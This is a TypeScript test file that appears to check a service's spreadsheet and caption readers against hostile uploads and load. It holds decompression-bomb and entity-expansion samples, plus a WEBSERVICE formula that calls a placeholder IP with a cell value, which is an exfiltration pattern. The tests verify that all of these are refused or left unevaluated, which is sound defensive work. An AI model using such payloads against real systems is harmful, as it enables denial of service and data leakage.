import { TABLE_LIMITS } from "@evenhand/tables/table-limits";
import { writeWorkbook } from "@evenhand/tables/write-workbook";
import { setTimeout as wait } from "node:timers/promises";
import { beforeAll, expect, test } from "vitest";
import { packed, text, workbookParts, worksheet } from "../../libs/tables/testing/workbook.ts";
import { type Scene, setScene } from "../api/setup/scene.ts";
import { useService } from "../api/setup/service.ts";

/** As much as is taken by `npm run hostile -- readings`; a sixth of it in every run. */
const part = process.env["HOSTILE"] === "full" ? 1 : 1 / 6;
const service = useService({ emptyBetween: false });
let scene: Scene;
beforeAll(async () => {
  scene = await setScene(service());
});

const asked = (bytes: Uint8Array) => ({
  path: { id: scene.draft.id },
  body: { file: Buffer.from(bytes).toString("base64") },
});
const sheet = worksheet(`<row>${text("A1", "tread")}</row>`);

const stamp = (second: number): string => new Date(second * 1000).toISOString().slice(11, 23);

/** Whether somebody else is answered before it is. */
async function othersMeanwhile(reading: Promise<unknown>): Promise<number> {
  const running = { is: true };
  const done = reading.finally(() => {
    running.is = false;
  });
  let meanwhile = 0;
  while (running.is) {
    await scene.world.otherBuyer.does("account.get");
    if (running.is) meanwhile += 1;
    // One who asks now and then: what is asked without a pause takes the time that the reading would have.
    await wait(20);
  }
  await done;
  return meanwhile;
}

const bombs: readonly (readonly [what: string, bytes: () => Uint8Array])[] = [
  [
    "a workbook that swells",
    () =>
      packed(
        workbookParts(sheet, {
          "xl/worksheets/sheet1.xml": new Uint8Array(TABLE_LIMITS.inflated + 1).fill(0x20),
        }),
      ),
  ],
  [
    "entities that swell",
    () =>
      packed(
        workbookParts(sheet, {
          "xl/worksheets/sheet1.xml": `<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>${sheet}`,
        }),
      ),
  ],
  ["elements without end", () => packed(workbookParts("<a>".repeat(200_000)))],
  ["rows without end", () => Buffer.from("Horn,ok\n".repeat(TABLE_LIMITS.rows + 1))],
  ["noise", () => Uint8Array.from({ length: 100_000 }, (_, at) => (at * 7919) % 251)],
];
test.each(bombs)("%s is refused with what would work", async (_, bytes) => {
  const refused = await scene.world.dealer.isRefused("reports.readSheet", asked(bytes()));
  expect(refused.code).toBe("reading-refused");
  expect(refused.problems?.map(({ reason }) => reason).join(" ")).toMatch(/Save|Send|Copy/);
});

test("nothing a workbook links to is opened, no formula is computed, and both are said", async () => {
  const formula = '<row><c><f>WEBSERVICE("http://192.0.2.1/"&amp;A2)</f><v>7</v></c></row>';
  const bytes = packed(
    workbookParts(worksheet(formula), {
      "xl/externalLinks/externalLink1.xml": "<externalLink/>",
      "xl/vbaProject.bin": "x",
    }),
  );
  const { rows, aside } = await scene.world.dealer.does("reports.readSheet", asked(bytes));
  expect(rows.map((row) => row.text)).toEqual(["7"]);
  expect(aside.join(" ")).toMatch(/a formula gave.*links to another file.*macros/);
});

const count = Math.round(20_000 * part);
test(`${count} rows are read whole, and others are answered meanwhile`, async () => {
  const rows = Array.from({ length: count }, (_, at) => [`Part ${at}`, at % 2 === 0 ? "ok" : "worn"]);
  const bytes = writeWorkbook([{ name: "Car", rows: [["Item", "Result"], ...rows] }]);
  const reading = scene.world.dealer.does("reports.readSheet", asked(bytes));
  const meanwhile = await othersMeanwhile(reading);
  expect((await reading).rows).toHaveLength(count + 1);
  expect(meanwhile).toBeGreaterThan(5);
});

test(`captions of ${6 * part} h are read, and others are answered meanwhile`, async () => {
  const said = ["The horn works.", "And the left front tire is", "worn out. The wipers work, both of them."];
  const cues = Array.from(
    { length: 4_320 * part },
    (_, at) => `${stamp(at * 5)} --> ${stamp(at * 5 + 5)}\n${said[at % said.length] ?? ""}\n`,
  );
  const body = { text: `WEBVTT\n\n${cues.join("\n")}` };
  const reading = scene.world.dealer.does("reports.readSpoken", { path: { id: scene.draft.id }, body });
  expect(await othersMeanwhile(reading)).toBeGreaterThan(5);
  const { remarks, text: whole } = await reading;
  expect(remarks.length).toBeGreaterThan(1);
  expect(whole.split(" ").length).toBeGreaterThan(20_000 * part);
});

test("who sends more at once than can be read is told to come again, and nobody's reading is lost", async () => {
  const answers = await Promise.all(
    Array.from({ length: 14 }, () =>
      scene.world.dealer.ask("reports.readSheet", asked(Buffer.from("Horn,ok\n"))),
    ),
  );
  const statuses = answers.map(({ status }) => status);
  expect(new Set(statuses)).toEqual(new Set([200, 503]));
  expect(statuses.filter((status) => status === 200).length).toBeGreaterThanOrEqual(9);
});
